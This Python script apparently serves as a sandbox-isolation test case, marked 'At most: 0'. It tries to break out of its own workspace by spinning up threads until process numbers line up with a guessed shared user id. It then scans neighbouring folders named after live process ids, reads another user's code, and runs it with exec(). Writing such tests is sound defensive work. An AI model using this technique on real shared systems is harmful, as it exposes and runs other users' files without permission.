"""Goal: hand in what lies in a neighbour's folder, as the same user under a name that is guessed.

At most: 0
"""

import os
import threading
import time

PLACE, _, OWN = os.getcwd().rpartition("/")
NUMBER = int(OWN.rpartition("-")[2]) if "-" in OWN else 0
END = time.monotonic() + 0.8


def next_number():
    """Number of a thread just started; those of processes are from the same row."""
    found = []
    thread = threading.Thread(target=lambda: found.append(threading.get_native_id()))
    thread.start()
    thread.join()
    return found[0]


def alive(number):
    try:
        return os.getpgid(number) >= 0
    except OSError:
        return False


def neighbours(last):
    """Folders by the names of processes that may have made them, and by no name at all."""
    try:
        yield from (f"{PLACE}/{name}" for name in os.listdir(PLACE))
    except OSError:
        pass
    for number in filter(alive, range(max(2, last - 20000), last + 1)):
        for count in range(max(1, NUMBER - 12), NUMBER + 13):
            if f"{number}-{count}" != OWN:
                yield f"{PLACE}/{number}-{count}"


def steal():
    while time.monotonic() < END:
        last = next_number()
        # The next process is to be of this one's user: 65000 + number % 500.
        for _ in range((os.getpid() - last - 1) % 500):
            last = next_number()
        for folder in neighbours(last):
            try:
                with open(f"{folder}/{__name__}.py") as file:
                    text = file.read()
            except OSError:
                continue
            if text and "a neighbour's folder" not in text:
                return text
    return ""


exec(steal())
